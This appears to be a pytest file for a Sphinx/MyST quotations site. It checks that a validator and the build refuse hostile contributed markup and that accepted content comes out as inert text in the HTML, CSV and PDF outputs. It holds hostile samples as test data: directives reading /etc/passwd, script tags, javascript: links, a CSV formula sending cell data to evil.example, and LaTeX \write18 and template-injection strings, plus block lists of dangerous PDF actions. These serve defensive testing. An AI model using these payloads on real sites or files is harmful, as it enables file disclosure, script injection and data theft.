"""Hostile input, as strangers may send it: each case of ``tests/hostile`` gets its message, or is shown as text.

What is refused is refused by the check, which has neither Sphinx nor docutils, in a process that may take
only so much time and memory; the build refuses the same in the same words.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from dataclasses import fields

import pikepdf
import pytest
from lxml import etree, html
from myst_parser.config.main import MdParserConfig

from conftest import ROOT, SPECIMEN, copy_of, surroundings
from hostilecases import cases, lay
from pdftree import PdfTree
from quotations.core.pages.allowed import ALLOWED
from quotations.core.verify import verify

FOLDER = ROOT / "tests" / "hostile"
CASES = cases(FOLDER)
ACCEPTED = [case for case in CASES if not case.gets]


@pytest.fixture(scope="module")
def checked(tmp_path_factory):
    """What the check says of each case of a theme, all in one process."""
    made: dict[str, dict[str, dict]] = {}

    def of(theme: str) -> dict[str, dict]:
        if theme not in made:
            base = tmp_path_factory.mktemp(theme)
            roots = {}
            for number, case in enumerate(each for each in CASES if each.theme == theme):
                edition = copy_of(SPECIMEN, base / str(number))
                lay(case, edition.root)
                roots[str(edition.root)] = case.name
            command = [sys.executable, "-X", "utf8", str(ROOT / "tests" / "hostilecases.py"), *roots]
            done = subprocess.run(command, capture_output=True, text=True, check=False, env=surroundings(), encoding="utf-8")
            told = [json.loads(line) for line in done.stdout.splitlines()]
            made[theme] = {roots[root]: result for root, result in told}
            ended = f"the check ended with {done.returncode} in this case: {done.stderr[-2000:]}"
            for name in list(roots.values())[len(told) :]:
                made[theme][name] = {"status": -1, "found": [], "err": ended, "odd": [], "lines": ""}
        return made[theme]

    return of


def test_there_are_more_than_a_hundred():
    assert len(CASES) >= 100
    assert len({case.id for case in CASES}) == len(CASES)
    assert len(ACCEPTED) >= 10


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_each_gets_its_message(checked, case):
    result = checked(case.theme)[case.name]
    assert result["err"] == ""
    found = sorted(map(tuple, result["found"]))
    if case.more:
        assert set(case.gets) <= set(found), result["lines"]
        assert {code for _path, _line, code in found} == {code for _path, _line, code in case.gets}
    else:
        assert found == sorted(case.gets), result["lines"]
    assert result["status"] == (1 if case.gets else 0)
    assert result["odd"] == [], "the terminal of whoever reads the message would obey it"


# ---------------------------------------------------------------- The build


@pytest.mark.parametrize("theme", sorted({case.theme for case in CASES}))
def test_the_build_refuses_what_the_check_refuses(tmp_path, theme):
    """In the same words, by Sphinx called as anybody may call it; and nothing is made."""
    edition = copy_of(SPECIMEN, tmp_path / "edition")
    case = next(each for each in CASES if each.theme == theme and each.gets)
    lay(case, edition.root)
    done = edition.sphinx("html", tmp_path / "html")
    path, line, code = case.gets[0]
    assert done.returncode == 1
    assert re.search(rf"^{re.escape(path)}:{line}:\d+: {code} ", done.stderr, re.MULTILINE), done.stderr
    assert "Traceback" not in done.stderr
    assert not list((tmp_path / "html").glob("*.html"))


BEHIND = """
def behind(app, docname, source):
    if docname == "index":
        source[0] += {words!r}

def setup(app):
    app.connect("source-read", behind)
"""


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("```{include} ../conf.py\n```\n", "{include}"),
        ("```{csv-table}\n:file: /etc/passwd\n```\n", "{csv-table}"),
        ("```{eval-rst}\n.. literalinclude:: /etc/passwd\n```\n", "{literalinclude}"),
        ("{download}`x <../conf.py>`\n", "{download}"),
        ("```{eval-rst}\n.. role:: html(raw)\n   :format: html\n```\n", "{role}"),
        ("<script>window.ran = 1</script>\n", "raw HTML"),
        ("```{eval-rst}\n`x <javascript:a>`__\n```\n", "javascript:"),
    ],
)
def test_what_comes_past_the_check_meets_a_second_gate(specimen, tmp_path, words, told):
    """An extension may add to a page after it was checked; what is asked for is not done even so."""
    specimen.write("conf.py", specimen.text("conf.py") + BEHIND.format(words="\n\n" + words))
    done = specimen.sphinx("html", tmp_path / "html")
    assert done.returncode != 0
    assert told in done.stderr
    assert "root:" not in done.stderr
    assert not list((tmp_path / "html").rglob("conf.py"))


# ---------------------------------------------------------------- What is accepted is text

STRAIGHT = str.maketrans("“”‘’", "\"\"''")
"""Prose has its quotation marks made round, as any prose has."""
RUNS = re.compile(r"^\s*(?:javascript|vbscript|data|file|blob):", re.IGNORECASE)


def pages(harmless):
    found = sorted((harmless / "html").rglob("*.html"))
    assert len(found) > len(ACCEPTED)
    return [(path, html.fromstring(path.read_bytes())) for path in found]


def test_no_page_has_a_program_of_theirs(harmless):
    for path, page in pages(harmless):
        own = {"application/ld+json"}
        inline = [each for each in page.iter("script") if not each.get("src") and each.get("type") not in own]
        assert inline == [], path.name
        assert [each for each in page.xpath("//script/@src") if "//" in each] == [], path.name
        for element in page.iter(etree.Element):
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (path.name, name)
                assert name != "style", (path.name, value)
                assert not (name in {"href", "src", "action"} and RUNS.match(value)), (path.name, value)


def test_the_data_in_pages_and_the_feed_can_be_read(harmless):
    for path, page in pages(harmless):
        for each in page.xpath("//script[@type='application/ld+json']"):
            assert json.loads(each.text), path.name
    feeds = sorted((harmless / "html").glob("*.xml"))
    assert len(feeds) >= 2
    for feed in feeds:
        etree.parse(str(feed))


def test_their_markup_is_read_as_words(harmless):
    page = html.fromstring((harmless / "html" / "html-tags-in-quoted-words.html").read_bytes())
    words = page.text_content().translate(STRAIGHT)
    for each in ("speaker", "detail", "result", "step"):
        assert f'<script>window.ran = "{each}"</script>' in words


def test_no_cell_of_the_table_is_a_formula(harmless):
    with (harmless / "data" / "quotations.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    assert rows["formula1911-1"]["text"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert [rows[f"formula1911-{number}"]["text"][:2] for number in range(1, 5)] == ["'=", "'+", "'-", "'@"]
    assert rows["formula1911-1"]["speaker"] == "'=1+1"
    for row in rows.values():
        assert not any(cell.startswith(tuple("=+-@\t\r\n")) for cell in row.values())


def test_the_book_shows_it_as_words_and_does_nothing(harmless):
    book = harmless / "pdf" / "harbour.pdf"
    assert verify(book).faults == []
    with pikepdf.open(book) as pdf:
        text = "".join(each.text for each in PdfTree(book).root.walk())
        for each in ('<script>window.ran = "speaker"', "=HYPERLINK(", "#read(", "\\write18{id}", "{{ 7 * 7 }}"):
            assert "".join(each.split()) in "".join(text.translate(STRAIGHT).split()), each
        for item in filter(lambda each: isinstance(each, pikepdf.Dictionary), pdf.objects):
            assert str(item.get("/S", "")) not in {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"}
            assert not {"/JS", "/AA", "/OpenAction"} & set(item.keys())
            uri = str(item.get("/URI", "https://"))
            assert uri.startswith(("https://", "http://", "mailto:")), uri


# ---------------------------------------------------------------- The list


def test_the_threat_model_has_the_list_as_it_is():
    """What pages may hold is written down once for programs and once for people."""
    told = (ROOT / "THREATS.md").read_text(encoding="utf-8")
    rows = dict(re.findall(r"^\| `(\w+)` \| (.*) \|$", told, re.MULTILINE))
    names = {field.name for field in fields(ALLOWED)}
    assert set(rows) == names
    for name in ("roles", "front_matter", "schemes", "pictures", "myst_extensions"):
        assert set(re.findall(r"`([^`]+)`", rows[name])) == getattr(ALLOWED, name), name
    assert set(re.findall(r"`([^`]+)`", rows["languages"])) == ALLOWED.languages - {""}
    options = {option for each in ALLOWED.directives.values() for option in each.options}
    assert set(re.findall(r"`([^`]+)`", rows["directives"])) == set(ALLOWED.directives) | options


def test_every_extension_of_myst_on_the_list_is_one():
    assert MdParserConfig(enable_extensions=ALLOWED.myst_extensions).enable_extensions == ALLOWED.myst_extensions


@pytest.mark.parametrize(
    ("given", "told"),
    [
        ("[]", "is not a dict"),
        ('{"tags": ["b"]}', "unknown name 'tags'"),
        ('{"roles": "math"}', "no list of words under 'roles'"),
        ('{"words": [1]}', "something else than words under 'words'"),
    ],
)
def test_a_wrong_setting_is_told(specimen, given, told):
    specimen.write("conf.py", specimen.text("conf.py") + f"\nquotations_allow = {given} or ['x']\n")
    done = specimen.run_check()
    assert done.returncode == 2
    assert told in done.stderr
    assert "Traceback" not in done.stderr
